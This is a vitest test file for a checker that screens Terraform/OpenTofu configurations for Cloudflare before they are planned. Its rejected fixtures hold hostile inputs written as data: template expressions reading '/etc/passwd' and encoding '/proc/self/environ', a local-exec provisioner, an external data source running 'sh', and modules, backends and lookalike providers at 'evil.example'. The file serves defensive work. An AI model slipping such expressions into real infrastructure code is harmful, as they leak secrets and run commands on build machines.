import { describe, expect, it } from 'vitest';
import { dangersOf } from '../../scripts/plan/dangers.ts';
import type { JsonObject } from '../../scripts/plan/types.ts';

const terraform = {
  backend: { s3: { bucket: 'state', key: 'acme.tfstate' } },
  required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } },
};
const record = {
  name: 'www.shop.example',
  type: 'A',
  content: '203.0.113.1',
  ttl: 1,
  zone_id: '${cloudflare_zone.shop.id}',
};
const honest = {
  terraform,
  provider: { cloudflare: [{}] },
  locals: { host: 'www' },
  resource: { cloudflare_zone: { shop: { name: 'shop.example' } }, cloudflare_dns_record: { www: record } },
  data: { cloudflare_ip_ranges: { edge: {} } },
};

const withRecord = (part: JsonObject): JsonObject => ({
  ...honest,
  resource: { cloudflare_dns_record: { www: { ...record, ...part } } },
});

describe('a configuration that may be planned', () => {
  it.each([
    ['the honest one', honest],
    [
      'references and pure functions',
      withRecord({ content: '${lower(join(".", ["a", cloudflare_zone.shop.name]))}' }),
    ],
    ['an escaped template, which is a text', withRecord({ content: '$${file("/etc/passwd")}' })],
    ['a word before a bracket outside of a template', withRecord({ comment: 'see file(7) and timestamp()' })],
    [
      'a WAF expression with functions of its own',
      withRecord({ expression: 'starts_with(http.host, "a") and not len(x) eq 1' }),
    ],
  ])('holds no danger: %s', (_, configuration) => {
    expect(dangersOf(configuration)).toEqual([]);
  });
});

describe('a configuration that must not be planned', () => {
  it.each([
    ['a check block', { ...honest, check: { up: {} } }, 'check'],
    ['an ephemeral block', { ...honest, ephemeral: { random_password: { p: {} } } }, 'ephemeral'],
    ['an import block', { ...honest, import: [{ to: 'cloudflare_zone.shop', id: 'x' }] }, 'import'],
    [
      'a module from elsewhere',
      { ...honest, module: { m: { source: 'git::https://evil.example/m' } } },
      'module.m',
    ],
    ['a module of the registry', { ...honest, module: { m: { source: 'evil/m/cloudflare' } } }, 'module.m'],
    ['a block nobody knows', { ...honest, plugin: {} }, 'plugin'],
    [
      'OpenTofu state encryption',
      { ...honest, terraform: { ...terraform, encryption: { key_provider: { external: {} } } } },
      'terraform.encryption',
    ],
    ['HCP Terraform', { ...honest, terraform: { ...terraform, cloud: {} } }, 'terraform.cloud'],
    [
      'another backend',
      { ...honest, terraform: { ...terraform, backend: { http: { address: 'https://evil.example' } } } },
      'terraform.backend.http',
    ],
    [
      'a foreign provider',
      { ...honest, terraform: { ...terraform, required_providers: { x: { source: 'evil/x' } } } },
      'provider x',
    ],
    [
      'a lookalike provider',
      {
        ...honest,
        terraform: { ...terraform, required_providers: { cloudflare: { source: 'evil/cloudflare' } } },
      },
      'provider cloudflare',
    ],
    ['a configured foreign provider', { ...honest, provider: { external: [{}] } }, 'provider.external'],
    ['a foreign resource', { ...honest, resource: { null_resource: { x: {} } } }, 'null_resource.x'],
    [
      'a data source that runs a program',
      { ...honest, data: { external: { x: { program: ['sh'] } } } },
      'data.external.x',
    ],
    [
      'the state of another stack',
      { ...honest, data: { terraform_remote_state: { x: {} } } },
      'data.terraform_remote_state.x',
    ],
    [
      'a provisioner',
      withRecord({ provisioner: [{ 'local-exec': { command: 'id' } }] }),
      'cloudflare_dns_record.www',
    ],
    ['a connection', withRecord({ connection: { host: 'x' } }), 'cloudflare_dns_record.www'],
    [
      'a file of the machine',
      withRecord({ comment: '${base64encode(file("/proc/self/environ"))}' }),
      'cloudflare_dns_record.www',
    ],
    [
      'a function with blanks before the bracket',
      withRecord({ comment: '${file   ("/etc/passwd")}' }),
      'cloudflare_dns_record.www',
    ],
    [
      'a directive',
      withRecord({ comment: '%{ if fileexists("/x") }a%{ endif }' }),
      'cloudflare_dns_record.www',
    ],
    ['the clock', withRecord({ comment: '${timestamp()}' }), 'cloudflare_dns_record.www'],
    [
      'a function of a provider',
      withRecord({ comment: '${provider::evil::run("x")}' }),
      'cloudflare_dns_record.www',
    ],
    ['a path of the machine', withRecord({ comment: '${path.cwd}' }), 'cloudflare_dns_record.www'],
    ['a file in a local value', { ...honest, locals: { secret: '${file("/etc/passwd")}' } }, 'locals'],
    [
      'a file deep inside a list',
      withRecord({ rules: [{ action_parameters: { body: ['${file("x")}'] } }] }),
      'cloudflare_dns_record.www',
    ],
  ])('is told by its place: %s', (_, configuration, place) => {
    expect(dangersOf(configuration as JsonObject).map((danger) => danger.place)).toContain(place);
  });
});
